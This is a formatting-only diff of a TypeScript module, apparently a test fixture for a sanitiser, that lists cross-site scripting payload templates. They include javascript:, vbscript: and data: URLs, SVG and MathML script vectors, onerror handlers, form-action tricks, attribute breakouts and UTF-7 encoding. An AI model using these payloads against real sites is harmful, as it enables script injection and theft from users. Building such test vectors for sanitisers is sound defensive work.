@@ -90,17 +90,18 @@ const FAMILIES: Record<Family, Record<string, Maker>> = {
     'data-html-base64': (c) => `data:text/html;base64,${Buffer.from(`<script>${c}</script>`).toString('base64')}`,
     'data-upper': (c) => `DATA:text/html,<script>${c}</script>`,
     'data-svg': (c) => `data:image/svg+xml,<svg onload="${c}"/>`,
-    'vbscript': (c) => `vbscript:${c}`,
+    vbscript: (c) => `vbscript:${c}`,
     'vbscript-upper': (c) => `VBScript:${c}`,
     'blob-url': (c) => `blob:javascript:${c}`,
-    'livescript': (c) => `livescript:${c}`,
+    livescript: (c) => `livescript:${c}`,
     'js-protocol-relative-break': (c) => `//example.com/"><script>${c}</script>`,
   },
   'svg-math': {
     'svg-script': (c) => `<svg><script>${c}</script></svg>`,
     'svg-script-href': (c) => `<svg><script href="data:,${c}"/></svg>`,
     'svg-a-xlink': (c) => `<svg><a xlink:href="javascript:${c}"><text y=20>x</text></a></svg>`,
-    'svg-use-data': (c) => `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='${c.replace(/'/g, '&quot;')}'/></svg>#x"/></svg>`,
+    'svg-use-data': (c) =>
+      `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='${c.replace(/'/g, '&quot;')}'/></svg>#x"/></svg>`,
     'svg-set-href': (c) => `<svg><a><set attributeName=href to="javascript:${c}"/><text y=20>x</text></a></svg>`,
     'svg-foreignobject': (c) => `<svg><foreignObject><img src=x onerror="${c}"></foreignObject></svg>`,
     'math-href': (c) => `<math><mi href="javascript:${c}">x</mi></math>`,
@@ -143,7 +144,7 @@ const FAMILIES: Record<Family, Record<string, Maker>> = {
     'attr-unquoted-break': (c) => `x onfocus=${c} autofocus`,
     'srcset-js': (c) => `<img srcset="javascript:${c} 1x, x 2x">`,
     'srcset-break': (c) => `x 1x, x" onerror="${c}`,
-    'formaction': (c) => `<form><button formaction="javascript:${c}">go</button></form>`,
+    formaction: (c) => `<form><button formaction="javascript:${c}">go</button></form>`,
     'input-formaction': (c) => `<input type=submit formaction="javascript:${c}" value=go>`,
     'form-action-js': (c) => `<form action="javascript:${c}"><input type=submit></form>`,
     'iframe-srcdoc': (c) => `<iframe srcdoc="&lt;script&gt;${c}&lt;/script&gt;"></iframe>`,
@@ -179,7 +180,7 @@ const FAMILIES: Record<Family, Record<string, Maker>> = {
     'tpl-react-dangerously': (c) => `{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${c}>"}}`,
   },
   misc: {
-    'utf7': (c) => `+ADw-script+AD4-${c}+ADw-/script+AD4-`,
+    utf7: (c) => `+ADw-script+AD4-${c}+ADw-/script+AD4-`,
     'half-open-tag': (c) => `<img src=x onerror="${c}"`,
     'double-open': (c) => `<<script>${c}//<</script>`,
     'markdown-link-js': (c) => `[click](javascript:${c})`,
@@ -196,8 +197,6 @@ export const VECTORS: readonly Vector[] = Object.entries(FAMILIES).flatMap(([fam
 );
 
 /** Vectors meant for URL fields (href, src, action): the schemes, and the ones that break out of an attribute. */
-export const URL_VECTORS: readonly Vector[] = VECTORS.filter(
-  (v) => v.family === 'url' || v.name.startsWith('attr-') || v.name.startsWith('srcset-') || v.name.startsWith('json-'),
-);
+export const URL_VECTORS: readonly Vector[] = VECTORS.filter((v) => v.family === 'url' || v.name.startsWith('attr-') || v.name.startsWith('srcset-') || v.name.startsWith('json-'));
 
 export const byName = new Map(VECTORS.map((v) => [v.name, v]));
